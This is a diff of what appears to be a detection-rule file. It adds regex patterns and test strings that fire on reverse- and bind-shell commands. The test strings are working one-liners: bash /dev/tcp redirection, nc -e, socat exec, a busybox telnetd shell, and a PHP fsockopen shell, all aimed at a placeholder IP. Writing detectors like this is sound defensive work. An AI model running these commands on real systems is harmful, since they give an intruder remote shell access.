@@ -14,11 +14,15 @@
 -- pattern: unix socat .*(exec|EXEC|system|SYSTEM):["']?[^ ,]*(sh|bash|python|perl|login|cmd)
 -- pattern: unix (ba|z|k|)sh +-i *(>|<|[0-9]>|&>|$)
 -- pattern: unix socket.*(pty\.spawn|dup2|(subprocess|exec|system)[^;]{0,60}["'/](ba|da|z|k|)sh["' ])
+-- pattern: unix telnetd .*-l *[^ ]*sh( |$)
 -- pattern: unix openssl s_client .*\|
+-- pattern: unix (fsockopen|TCPSocket|pfsockopen|net\.Socket\(|IO::Socket::INET).{0,200}(/(ba|da|z|)sh[ "'\\]|popen|proc_open|`)
 -- pattern: windows (?i)(net\.sockets\.tcpclient|nc(64)?\.exe .*-e )
 -- fires:   {"unix": "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"}
 -- fires:   {"unix": "nc -e /bin/sh 192.0.2.1 443"}
 -- fires:   {"unix": "socat tcp:192.0.2.1:443 exec:/bin/sh"}
+-- fires:   {"unix": "busybox telnetd -F -l /bin/sh -p 2323"}
+-- fires:   {"unix": "php -r '$s=fsockopen(1,2);exec(\"/bin/sh -i\");'"}
 -- fires:   {"windows": "$c = New-Object System.Net.Sockets.TCPClient(1)"}
 -- fires:   {"windows": "nc64.exe 192.0.2.1 443 -e cmd"}
 -- fires:   {"unix": "use Socket; socket(S,PF_INET,SOCK_STREAM,6); exec(\"/bin/sh -i\")"}
